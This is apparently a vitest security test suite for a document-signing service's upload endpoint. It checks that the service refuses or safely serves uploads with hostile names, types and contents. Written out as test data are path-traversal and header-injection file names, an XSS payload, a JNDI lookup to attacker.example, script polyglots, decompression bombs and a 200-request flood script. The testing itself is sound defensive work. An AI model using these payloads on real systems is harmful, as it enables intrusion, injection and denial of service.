/** File attacks: names that break paths and headers, polyglot contents, bombs, more bytes than memory. */
import { execFile } from 'node:child_process';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { docx, docxBomb, docxInnerBomb, jpeg, pdfWith, png, zip } from '../../papers/files.ts';
import { openStage, type Stage } from '../../stages/signing-stage.ts';
import { answerProblem, listenOnFreePort } from './raw-http.ts';

let stage: Stage;
let folderId: number;
beforeAll(async () => {
  stage = await openStage();
  folderId = (await stage.newDocument()).folderId;
});
afterAll(async () => {
  await stage.close();
});

const kept = (fileName: string, content: Uint8Array, mimeType: string | null = null): object => ({
  folderId,
  type: 'OTHER_IDENTITY',
  signable: false,
  fileName,
  mimeType,
  content: Buffer.from(content).toString('base64'),
});
const upload = (fileName: string, content: Uint8Array, mimeType?: string | null) =>
  stage.callAs('dealer', 'POST', '/api/documents', kept(fileName, content, mimeType));

const FILE_NAMES = [
  '../../../etc/passwd.png',
  '..\\..\\windows\\system32\\config.png',
  '/etc/cron.d/x.png',
  'C:\\autoexec.png',
  'a\u2215b\u2044c.png',
  '....//....//x.png',
  '%2e%2e%2fx.png',
  'x.png\r\nSet-Cookie: a=b\r\n.png',
  'x\nContent-Type: text/html\n\n<script>.png',
  'x"; filename="evil.html".png',
  "x'; filename*=UTF-8''evil.html.png",
  'x\\".png',
  'x;.png',
  'x%0d%0aX: y.png',
  'fattura\u202egnp.exe.png',
  '\u202eexe.png',
  'perché così 日本 🚗.png',
  '\ufeffx.png',
  'x\u2028y\u2029.png',
  'CON.png',
  '.png',
  ' .png',
  '-rf.png',
  '=1+1.png',
  '<img src=x onerror=alert(1)>.png',
  '$\u007bjndi:ldap://attacker.example}.png',
  `${'é'.repeat(200)}.png`,
  'x.html.png',
  'ﬁle․png.png',
];

describe('a file name', () => {
  it.each(FILE_NAMES)('%j is returned as a harmless attachment, or refused', async (name) => {
    const answer = await upload(name, png());
    if (answer.statusCode !== 201) {
      expect([400, 422], answer.body).toContain(answer.statusCode);
      expect(answerProblem(answer)).toBeNull();
      return;
    }
    const { id, fileName } = answer.json<{ id: number; fileName: string }>();
    expect(fileName).not.toMatch(/[\\/\p{Cc}\u202a-\u202e\u2066-\u2069"<>|]/u);
    expect(fileName).toMatch(/[^.\s].*\.png$/);
    const download = await stage.callAs('dealer', 'GET', `/api/documents/${id}/download`);
    const header = String(download.headers['content-disposition']);
    expect(header).toMatch(/^attachment; filename="[^"\\/%\r\n]*"; filename\*=UTF-8''[\w.!#$&+^`|~%-]*$/);
    expect(header).toMatch(/^[\x20-\x7e]+$/);
    expect(decodeURIComponent(header.split("filename*=UTF-8''").at(-1) ?? '')).toBe(fileName);
    expect(download.headers['set-cookie']).toBeUndefined();
    expect(download.headers['content-type']).toBe('image/png');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(String(download.headers['content-security-policy'])).toContain("default-src 'none'");
    expect(download.rawPayload.equals(png())).toBe(true);
  });

  it('never names a file in the store', async () => {
    const files = await readdir(join(stage.test.folder, 'files'), { recursive: true, withFileTypes: true });
    const names = files.filter((entry) => entry.isFile()).map((entry) => entry.name);
    expect(names.length).toBeGreaterThan(0);
    expect(names.filter((name) => !/^[0-9a-f]{60,64}$/.test(name))).toEqual([]);
    expect(await readdir(stage.test.folder)).toEqual(expect.not.arrayContaining(['etc', 'x.png']));
  });
});

describe('a declared type', () => {
  it.each([
    'text/html',
    'image/svg+xml',
    'image/png, text/html',
    'text/html; image/png',
    'image/png\r\nX-Evil: 1',
    'image/png\u0000',
    'application/pdf',
    '__proto__',
    'constructor',
  ])('%j for a picture is refused', async (mimeType) => {
    const answer = await upload('x.png', png(), mimeType);
    expect([400, 422], answer.body).toContain(answer.statusCode);
    expect(answerProblem(answer)).toBeNull();
  });

  it('does not affect the response', async () => {
    const answer = await upload('x.png', png(), 'IMAGE/PNG; charset=utf-7');
    expect(answer.json()).toMatchObject({ mimeType: 'image/png' });
  });
});

const html = Buffer.from('<html><script>alert(1)</script></html>\n');
const pdf = pdfWith('');
const archive = zip([{ name: 'evil.html', data: html }]);

describe('a file with two formats', () => {
  it.each([
    ['a page before a PDF', 'x.html', Buffer.concat([html, pdf]), [422]],
    ['a ZIP before a PDF', 'x.pdf', Buffer.concat([archive, pdf]), [422]],
    ['a PDF named as a Word file', 'x.docx', pdf, [422]],
    ['a Word file named as a PDF', 'x.pdf', docx(), [422]],
    ['a ZIP named as a Word file', 'x.docx', archive, [422]],
    ['a page named as a PDF', 'x.pdf', html, [422]],
    [
      'SVG named as a picture',
      'x.png',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      [422],
    ],
    ['a program named as a picture', 'x.png', Buffer.from('MZ\u0090\u0000'), [422]],
    ['a page inside a PDF', 'x.pdf', Buffer.concat([html, pdf]), [201, 422]],
    ['a page behind a picture', 'x.png', Buffer.concat([png(), html]), [201, 422]],
    ['a ZIP behind a PDF', 'x.pdf', Buffer.concat([pdf, archive]), [201, 422]],
  ])('%s is refused, or stored as its real type and only downloaded', async (_name, fileName, bytes, statuses) => {
    const answer = await upload(fileName, bytes);
    expect(statuses, answer.body).toContain(answer.statusCode);
    if (answer.statusCode !== 201) return;
    const { id, mimeType } = answer.json();
    const download = await stage.callAs('dealer', 'GET', `/api/documents/${id}/download`);
    expect(download.headers['content-type']).toBe(mimeType);
    expect(mimeType).not.toMatch(/html|svg|xml|zip|octet/);
    expect(download.headers['content-disposition']).toMatch(/^attachment;/);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
  });

  it('is not signed as it arrived: bytes around the PDF are removed, or the file is refused', async () => {
    for (const bytes of [Buffer.concat([html, pdf]), Buffer.concat([pdf, archive]), Buffer.concat([pdf, html])]) {
      const document = { folderId, type: 'SALE_NEW_RFO', sigType: 'OTP', signable: true, fileName: 'x.pdf' };
      const content = bytes.toString('base64');
      const answer = await stage.callAs('dealer', 'POST', '/api/documents', { ...document, content });
      expect([201, 422], answer.body).toContain(answer.statusCode);
      if (answer.statusCode !== 201) continue;
      const stored = await stage.callAs('dealer', 'GET', `/api/documents/${answer.json().id}/download`);
      expect(stored.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
      expect(stored.rawPayload.includes('<script>')).toBe(false);
      expect(stored.rawPayload.includes('evil.html')).toBe(false);
      expect(stored.rawPayload.subarray(-8).toString()).toMatch(/%%EOF\s*$/);
    }
  });
});

describe('a decompression bomb', () => {
  it.each([
    ['a Word file that claims gigabytes', docxBomb()],
    ['a Word file whose list of parts inflates without end', docxInnerBomb()],
    [
      'a directory of a hundred thousand missing entries',
      Buffer.concat([
        Buffer.from('PK\u0003\u0004', 'latin1'),
        Buffer.alloc(100),
        Buffer.from([0x50, 0x4b, 5, 6, 0, 0, 0, 0, 255, 255, 255, 255, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
      ]),
    ],
    ['a picture of ten billion pixels', png(100_000, 100_000)],
  ])('%s is refused without being expanded', async (_name, bytes) => {
    const answer = await upload(bytes[1] === 0x50 ? 'x.png' : 'x.docx', bytes);
    expect(answer.statusCode, answer.body).toBe(422);
  });
});

describe('base64', () => {
  const good = png().toString('base64');
  it.each([
    ['line breaks', good.replace(/(.{20})/g, '$1\r\n')],
    ['blanks', `${good.slice(0, 8)} ${good.slice(8)}`],
    ['padding in the middle', `${good.slice(0, 4)}==${good.slice(4)}`],
    ['too much padding', `${good}====`],
    ['bits beyond the end', `${good.slice(0, -4)}QUI/`.replace(/.{4}$/, 'QUJ=')],
    ['the alphabet of URLs', good.replaceAll('+', '-').replaceAll('/', '_').replace(/^..../, '_-_-')],
    ['a data address', `data:image/png;base64,${good}`],
    ['a NUL', `${good.slice(0, 7)}\u0000${good.slice(8)}`],
    ['letters of another alphabet', good.replace('A', 'А')],
    ['a megabyte of blanks', ' '.repeat(1_000_000)],
  ])('with %s is refused', async (_name, content) => {
    const answer = await stage.callAs('dealer', 'POST', '/api/documents', { ...kept('x.png', png()), content });
    expect(answer.statusCode, answer.body).toBe(422);
    expect(answerProblem(answer)).toBeNull();
  });
});

/** The callers run in a separate process that reads the body from a file: two hundred of them would not fit in memory with the server. */
const CALLERS = `
import { readFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
const [port, token, file] = process.argv.slice(1);
const body = readFileSync(file);
const agent = new Agent({ maxSockets: 200 });
const headers = { host: 'localhost', authorization: 'Bearer ' + token, 'content-type': 'application/json', 'content-length': body.byteLength };
const send = () => new Promise((resolve) => {
  const call = request({ port, host: '127.0.0.1', method: 'POST', path: '/api/documents', headers, agent });
  call.once('response', (answer) => answer.resume().once('end', () => resolve([answer.statusCode, answer.headers['retry-after'] ?? null])));
  call.once('error', (error) => resolve([0, error.code]));
  call.end(body);
});
console.log(JSON.stringify(await Promise.all(Array.from({ length: 200 }, send))));
agent.destroy();
`;

describe('two hundred bodies of ten megabytes at once', () => {
  it('are accepted or deferred while other requests are answered', async () => {
    const port = await listenOnFreePort(stage.app);
    const credentials = { username: 'dealer', password: 'demo' };
    const { token } = (await stage.app.inject({ method: 'POST', url: '/api/auth/login', payload: credentials })).json();
    const file = join(stage.test.folder, 'body.json');
    await writeFile(file, JSON.stringify(kept('x.jpg', Buffer.concat([jpeg(), Buffer.alloc(10 * 1024 * 1024)]))));

    const callers = promisify(execFile)(
      process.execPath,
      ['--input-type=module', '-e', CALLERS, String(port), token, file],
      { maxBuffer: 2 ** 20 },
    );
    expect((await stage.app.inject('/health')).statusCode).toBe(200);
    const answers = JSON.parse((await callers).stdout) as [number, string | null][];

    const created = answers.filter(([status]) => status === 201);
    const sentBack = answers.filter(([status]) => status === 503);
    expect(answers.filter(([status]) => ![201, 503].includes(status))).toEqual([]);
    expect(created.length).toBeGreaterThanOrEqual(1);
    expect(sentBack.every(([, retry]) => Number(retry) >= 1)).toBe(true);
    expect((await stage.app.inject('/health')).statusCode).toBe(200);
    expect((await upload('x.jpg', Buffer.concat([jpeg(), Buffer.alloc(10 * 1024 * 1024)]))).statusCode).toBe(201);
  }, 90_000);
});

describe('an accepted file', () => {
  it('is stored under the hash of its bytes and stays unchanged', async () => {
    const answer = await upload('x.png', png(3, 3));
    const { id } = answer.json();
    const { read } = stage.test.world.database;
    const row = await read.selectFrom('document').select('file_sha256').where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.file_sha256).toMatch(/^[0-9a-f]{64}$/);
    const files = await readdir(join(stage.test.folder, 'files'), { recursive: true, withFileTypes: true });
    const storedFile = files.find((entry) => entry.isFile() && row.file_sha256?.endsWith(entry.name));
    expect(storedFile).toBeDefined();
    const bytes = await readFile(join(storedFile?.parentPath ?? '', storedFile?.name ?? ''));
    expect(bytes.equals(png(3, 3))).toBe(true);
  });
});
